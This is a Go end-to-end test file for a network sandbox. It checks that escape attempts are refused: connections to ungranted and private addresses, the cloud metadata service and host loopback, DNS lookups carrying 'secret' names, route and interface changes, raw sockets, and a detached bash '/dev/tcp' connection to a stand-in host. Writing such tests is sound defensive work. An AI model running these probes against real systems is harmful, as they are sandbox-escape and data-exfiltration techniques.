package e2e

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

const trialLimit = 2 * time.Second

// networkTrials go to addresses and ports that no grant uses, and to port 443, which
// one does, of addresses that no name was leased for.
func networkTrials() []trial {
	var all []trial
	for _, to := range []string{
		"203.0.113.5:22", "203.0.113.6:25", "203.0.113.7:80", "203.0.113.8:853", "203.0.113.9:6379", "203.0.113.10:8080", "198.51.100.7:65535",
		"10.0.0.1:22", "172.16.0.1:2375", "192.168.1.1:80", "169.254.169.254:80", "240.0.0.1:80", "100.64.0.1:22", "100.64.0.1:15001",
		"[2001:db8::5]:22", "[2001:db8::6]:80", "[fd00:64::1]:22", "[fd00:ec2::254]:80", "[64:ff9b::a00:1]:80",
	} {
		all = append(all, trial{name: "NET-04 TCP to " + to, try: dials(to), want: "ECONNREFUSED", record: "packet " + addressReason(to, "port_not_granted") + " tcp " + to,
			outside: strings.HasSuffix(to, ":80") && !strings.HasPrefix(to, "240")})
	}
	for _, to := range []string{"203.0.113.5:443", "203.0.113.6:4444", "8.8.8.8:853", "10.0.0.1:123", "[2001:db8::5]:443", "[2001:db8::6]:4444"} {
		all = append(all, trial{name: "NET-01 UDP to " + to, try: sends(to), want: "ECONNREFUSED", record: "packet protocol_not_granted udp " + to})
	}
	for _, to := range []string{"203.0.113.20:443", "10.0.0.1:443", "169.254.169.254:443", "127.0.0.2:443", "[2001:db8::5]:443", "[fd00:ec2::254]:443"} {
		t := trial{name: "HOST-09 TLS to " + to, try: greets(to), want: "ALERT", record: "connect " + addressReason(to, "address_not_granted") + "  " + to, outside: true}
		if strings.HasPrefix(to, "127") { // the sandbox itself
			t.want, t.record, t.outside = "ECONNREFUSED", "", false
		}
		all = append(all, t)
	}
	return append(all,
		trial{name: "NET-06 the host's 127.0.0.1", try: loopback("127.0.0.1"), want: "ECONNREFUSED", outside: true},
		trial{name: "NET-05 the host's ::1", try: loopback("::1"), want: "ECONNREFUSED", outside: true},
		trial{name: "NET-03 unconnected datagram", try: unconnected("203.0.113.30:4444"), want: "ECONNREFUSED", record: "packet protocol_not_granted udp 203.0.113.30:4444"},
		trial{name: "NET-11 multicast", try: shouts("224.0.0.251:5353"), want: "ok", record: "packet protocol_not_granted udp 224.0.0.251:5353", outside: true},
		trial{name: "NET-11 multicast v6", try: shouts("[ff02::fb]:5353"), want: "ok", record: "packet protocol_not_granted udp [ff02::fb]:5353"},
		trial{name: "NET-11 broadcast", try: shouts("255.255.255.255:9999"), want: "ok", record: "packet protocol_not_granted udp 255.255.255.255:9999", outside: true},
		trial{name: "SBX-06 from a session of its own", try: detached, want: "ECONNREFUSED", record: "packet port_not_granted tcp 203.0.113.40:80", outside: true},
	)
}

// addressReason is reason, except for addresses of metadata services.
func addressReason(to, reason string) string {
	if strings.HasPrefix(to, "169.254.") || strings.HasPrefix(to, "[fd00:ec2::254]") {
		return "metadata_address"
	}
	return reason
}

// resolverTrials ask for a name that carries a secret, by every way to ask.
func resolverTrials() []trial {
	var all []trial
	for i, way := range []string{"udp 8.8.8.8:53", "tcp 8.8.8.8:53", "udp [2001:db8::53]:53", "tcp [2001:db8::53]:53", "udp 203.0.113.53:53", "udp 100.64.0.1:53"} {
		network, server, _ := strings.Cut(way, " ")
		name := fmt.Sprintf("secret-%d.example.net", i)
		all = append(all, trial{name: "DNS-02 DNS by " + way, try: asks(network, server, name), want: "NXDOMAIN", record: "name no_grant A " + name})
	}
	return all
}

func dials(to string) func(scene) error {
	return func(scene) error {
		c, err := net.DialTimeout("tcp", to, trialLimit)
		if err != nil {
			return err
		}
		return c.Close()
	}
}

func loopback(host string) func(scene) error {
	return func(s scene) error { return dials(net.JoinHostPort(host, fmt.Sprint(s.Loopback)))(s) }
}

// sends waits for what the kernel says of a datagram.
func sends(to string) func(scene) error {
	return func(scene) error {
		c, err := net.Dial("udp", to)
		if err != nil {
			return err
		}
		defer c.Close()
		if _, err := c.Write([]byte("secret")); err != nil {
			return err
		}
		c.SetReadDeadline(time.Now().Add(trialLimit))
		_, err = c.Read(make([]byte, 1))
		return err
	}
}

// unconnected sends without connect and asks for errors (ip(7), IP_RECVERR).
func unconnected(to string) func(scene) error {
	return func(scene) error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		limit := unix.NsecToTimeval(trialLimit.Nanoseconds())
		address := netip.MustParseAddrPort(to)
		if err := errors.Join(unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_RECVERR, 1), unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &limit),
			unix.Sendto(fd, []byte("secret"), 0, &unix.SockaddrInet4{Port: int(address.Port()), Addr: address.Addr().As4()})); err != nil {
			return err
		}
		_, _, err = unix.Recvfrom(fd, make([]byte, 1), 0)
		return err
	}
}

// shouts sends one datagram to many.
func shouts(to string) func(scene) error {
	return func(scene) error {
		c, err := net.ListenPacket("udp", ":0")
		if err != nil {
			return err
		}
		defer c.Close()
		_, err = c.WriteTo([]byte("secret"), net.UDPAddrFromAddrPort(netip.MustParseAddrPort(to)))
		return err
	}
}

// greets begins TLS with a name.
func greets(to string) func(scene) error {
	return func(scene) error {
		c, err := net.DialTimeout("tcp", to, trialLimit)
		if err != nil {
			return err
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(trialLimit))
		return tls.Client(c, &tls.Config{ServerName: "secret.example.net", InsecureSkipVerify: true}).Handshake()
	}
}

func asks(network, server, name string) func(scene) error {
	return func(scene) error {
		ctx, cancel := context.WithTimeout(context.Background(), trialLimit)
		defer cancel()
		r := net.Resolver{PreferGo: true, StrictErrors: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return new(net.Dialer).DialContext(ctx, network, server)
		}}
		_, err := r.LookupNetIP(ctx, "ip4", name+".")
		return err
	}
}

// detached tries from a process that is in another session and has another environment.
func detached(scene) error {
	cmd := exec.Command("/bin/bash", "-c", "exec 3<>/dev/tcp/203.0.113.40/80")
	cmd.SysProcAttr, cmd.Env = &syscall.SysProcAttr{Setsid: true}, []string{}
	out, err := cmd.CombinedOutput()
	if strings.Contains(string(out), "Connection refused") {
		return unix.ECONNREFUSED
	}
	return err
}

// socketTrials open sockets of every kind that leads round the network namespace, or
// that changes it.
func socketTrials() []trial {
	socket := func(name string, family, kind, protocol int, want string) trial {
		return trial{name: name, want: want, try: func(scene) error {
			fd, err := unix.Socket(family, kind, protocol)
			if err == nil {
				unix.Close(fd)
			}
			return err
		}}
	}
	return []trial{
		socket("NET-02 ICMP", unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP, "EPROTONOSUPPORT"),
		socket("NET-02 ping", unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP, "EPROTONOSUPPORT"),
		socket("NET-02 ping v6", unix.AF_INET6, unix.SOCK_DGRAM, unix.IPPROTO_ICMPV6, "EPROTONOSUPPORT"),
		socket("raw", unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW, "EPROTONOSUPPORT"),
		socket("SCTP", unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP, "EPROTONOSUPPORT"),
		socket("AF_VSOCK", unix.AF_VSOCK, unix.SOCK_STREAM, 0, "EAFNOSUPPORT"),
		socket("AF_PACKET", unix.AF_PACKET, unix.SOCK_RAW, 0, "EAFNOSUPPORT"),
		socket("AF_ALG", unix.AF_ALG, unix.SOCK_SEQPACKET, 0, "EAFNOSUPPORT"),
		socket("AF_BLUETOOTH", unix.AF_BLUETOOTH, unix.SOCK_RAW, 0, "EAFNOSUPPORT"),
		socket("AF_TIPC", unix.AF_TIPC, unix.SOCK_DGRAM, 0, "EAFNOSUPPORT"),
		socket("AF_XDP", unix.AF_XDP, unix.SOCK_RAW, 0, "EAFNOSUPPORT"),
		socket("SBX-08 netfilter", unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER, "EAFNOSUPPORT"),
		{name: "SBX-08 lo down", try: loDown, want: "EPERM"},
		{name: "SBX-08 route", try: deleteRoutes, want: "EPERM"},
		{name: "SBX-08 capabilities", try: anyCapability, want: "EPERM"},
		{name: "the proxy's port", try: func(scene) error {
			l, err := net.Listen("tcp", "0.0.0.0:443")
			if err == nil {
				l.Close()
			}
			return err
		}, want: "EACCES"},
	}
}

func loDown(scene) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	request, err := unix.NewIfreq("lo")
	if err != nil {
		return err
	}
	request.SetUint16(0)
	return unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, request)
}

// deleteRoutes asks for RTM_DELROUTE of everything in table local (rtnetlink(7)).
func deleteRoutes(scene) error {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_ROUTE)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	message := make([]byte, unix.SizeofNlMsghdr+unix.SizeofRtMsg)
	message[0], message[4], message[6] = byte(len(message)), unix.RTM_DELROUTE, unix.NLM_F_REQUEST|unix.NLM_F_ACK
	message[16], message[20] = unix.AF_INET, unix.RT_TABLE_LOCAL
	if err := unix.Sendto(fd, message, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	reply := make([]byte, 4096)
	n, _, err := unix.Recvfrom(fd, reply, 0)
	if err != nil || n < 20 {
		return fmt.Errorf("%d bytes: %w", n, err)
	}
	if number := -int32(uint32(reply[16]) | uint32(reply[17])<<8 | uint32(reply[18])<<16 | uint32(reply[19])<<24); number != 0 {
		return syscall.Errno(number)
	}
	return nil
}

// anyCapability succeeds where the process has one, or could get one by exec.
func anyCapability(scene) error {
	status, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return err
	}
	for line := range strings.Lines(string(status)) {
		if name, value, _ := strings.Cut(strings.TrimSpace(line), ":\t"); strings.HasPrefix(name, "Cap") && strings.Trim(value, "0") != "" {
			return nil
		}
	}
	return unix.EPERM
}
